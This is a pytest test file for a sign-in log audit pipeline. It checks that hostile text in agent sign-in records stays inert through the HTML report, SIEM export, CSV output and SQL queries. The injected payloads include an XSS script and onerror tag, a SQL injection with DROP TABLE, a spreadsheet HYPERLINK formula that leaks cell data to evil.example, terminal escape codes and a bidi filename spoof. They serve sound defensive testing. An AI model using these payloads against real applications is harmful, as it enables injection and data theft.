"""Injection, end to end: hostile text in real Entra records goes through ingest, baseline,
detect, report, SIEM export and ``agentaudit sql`` and stays inert everywhere.

Payloads: HTML/JS, SQL fragments, spreadsheet formulas, terminal escape sequences and Unicode
direction overrides, in the names, user agent and resource of agent sign-ins that are not in the
registry (so that findings name them: a shadow agent is reported by its name).
"""

from __future__ import annotations

import copy
import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipeline.cli import cli
from pipeline.run import RunSummary, run_nightly
from pipeline.workspace import Workspace

HTML = "<img src=x onerror=\"document.title='PWNED-IMG'\"><script>document.title='PWNED'</script>"
SQL = "x' OR '1'='1'; DROP TABLE signins; --"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ANSI = "\x1b[2J\x1b[1;31mOWNED\x1b[0m\x07"
BIDI = "invoice\u202egpj.exe"
PAYLOADS = {"html": HTML, "sql": SQL, "formula": FORMULA, "ansi": ANSI, "bidi": BIDI}


def _hostile_records(samples_dir: Path) -> list[dict]:
    path = samples_dir / "azure-monitor-storage" / "service_principal_sign_in_logs.json"
    base = [json.loads(ln) for ln in path.read_text().splitlines() if ln.strip()]
    out = []
    for i, (kind, payload) in enumerate(PAYLOADS.items()):
        for j, record in enumerate(base[:3]):
            rec = copy.deepcopy(record)
            props = rec["properties"]
            props["id"] = f"{props['id']}-{kind}-{j}"
            props["servicePrincipalName"] = f"{payload} agent {i}"
            props["servicePrincipalId"] = f"00000000-0000-4000-8000-00000000000{i}"
            props["appId"] = f"00000000-0000-4000-9000-00000000000{i}"
            props["appDisplayName"] = payload
            props["userAgent"] = payload
            props["resourceDisplayName"] = f"{payload} resource"
            props["agent"] = {
                "agentType": "agenticAppInstance",
                "agentSubjectType": "agenticAppInstance",
                "parentAppId": f"00000000-0000-4000-a000-00000000000{i}",
            }
            out.append(rec)
    return out


@pytest.fixture(scope="module")
def hostile_run(samples_dir: Path, tmp_path_factory) -> tuple[Workspace, RunSummary]:
    root = tmp_path_factory.mktemp("hostile")
    path = root / "input" / "hostile.json"
    path.parent.mkdir()
    path.write_text("".join(json.dumps(r) + "\n" for r in _hostile_records(samples_dir)))
    ws = Workspace.at(root / "ws")
    summary = run_nightly(ws, [str(path)])
    assert summary.rows_written == 3 * len(PAYLOADS)
    return ws, summary


def _findings_naming_payloads(ws: Workspace) -> list[dict]:
    lines = []
    for path in ws.siem.glob("*.jsonl"):
        lines += [json.loads(ln) for ln in path.read_text().splitlines() if ln.strip()]
    return lines


def test_report_shows_hostile_text_inert(hostile_run) -> None:
    ws, summary = hostile_run
    html = Path(summary.report or "").read_text()
    shown = [k for k in ("html", "sql", "formula") if k in PAYLOADS]
    from pipeline.report.render import script

    # one script: the report's own findings table (allowed by its hash), none from the logs
    assert html.lower().count("<script") == 1 and f"<script>{script()}</script>" in html
    assert "onerror=" not in html.replace("onerror=&#34;", "")
    assert "<img" not in html
    assert "&lt;script&gt;" in html or "&lt;img" in html  # shown, as text
    assert "\x1b" not in html and "\u202e" not in html  # control / bidi made visible
    assert "<U+202E>" in html or "U+202E" in html
    assert shown


def test_report_in_chromium_runs_no_payload(hostile_run, chromium_path: Path, tmp_path) -> None:
    chromium = str(chromium_path)
    ws, summary = hostile_run
    profile = tmp_path / "profile"
    done = subprocess.run(
        [
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            f"--user-data-dir={profile}",
            "--dump-dom",
            "--virtual-time-budget=2000",
            Path(summary.report or "").as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    title = done.stdout.split("</title>")[0]
    assert "PWNED" not in title and "agentaudit report" in title


def test_siem_lines_carry_hostile_text_as_data(hostile_run) -> None:
    ws, _summary = hostile_run
    lines = _findings_naming_payloads(ws)
    assert lines
    names = {line.get("actor", {}).get("user", {}).get("name") for line in lines}
    assert any(name and HTML in name for name in names)  # kept exactly, JSON-escaped on disk
    raw = "".join(p.read_text() for p in ws.siem.glob("*.jsonl"))
    assert "\x1b" not in raw  # JSON escapes control characters (\u001b)


def test_sql_binds_hostile_filters(hostile_run) -> None:
    ws, _summary = hostile_run
    runner = CliRunner()
    query = "SELECT count(*) AS n FROM signins WHERE app_display_name = $v"
    for kind, payload in PAYLOADS.items():
        result = runner.invoke(
            cli, ["sql", "-w", str(ws.root), query, "-p", f"v={payload}", "-f", "json"]
        )
        assert result.exit_code == 0, result.output
        assert json.loads(result.stdout.splitlines()[0]) == {"n": 3}, kind
    # the SQL fragment as a value matches nothing and drops nothing
    result = runner.invoke(cli, ["sql", "-w", str(ws.root), query, "-p", "v=' OR '1'='1"])
    assert result.exit_code == 0 and "0" in result.stdout
    after = runner.invoke(cli, ["sql", "-w", str(ws.root), "SELECT count(*) FROM signins"])
    assert "15" in after.stdout


def test_sql_table_output_strips_control_characters(hostile_run) -> None:
    ws, _summary = hostile_run
    result = CliRunner().invoke(
        cli,
        ["sql", "-w", str(ws.root), "SELECT DISTINCT user_agent FROM signins ORDER BY 1"],
    )
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\u202e" not in result.stdout
    assert "OWNED" in result.stdout  # the text is there, its escape codes are not


def test_sql_csv_output_neutralises_formulas(hostile_run) -> None:
    ws, _summary = hostile_run
    result = CliRunner().invoke(
        cli,
        [
            "sql",
            "-w",
            str(ws.root),
            "SELECT DISTINCT app_display_name, user_agent FROM signins ORDER BY 1",
            "-f",
            "csv",
        ],
    )
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert any(c == "'" + FORMULA for c in cells)


def test_identities_and_findings_tables_strip_control_characters(hostile_run) -> None:
    ws, _summary = hostile_run
    for args in (["identities"], ["findings"]):
        result = CliRunner().invoke(cli, [*args, "-w", str(ws.root)])
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.stdout and "\u202e" not in result.stdout, args


def test_ingest_summary_strips_direction_overrides(tmp_path: Path) -> None:
    path = tmp_path / "x.json"
    record = {"time": "2026-11-20T00:00:00Z", "category": f"{ANSI}{BIDI}", "properties": {}}
    path.write_text(json.dumps(record) + "\n")
    result = CliRunner().invoke(cli, ["ingest", "-w", str(tmp_path / "ws"), str(path)])
    assert "\x1b" not in result.output
    assert "\u202e" not in result.output
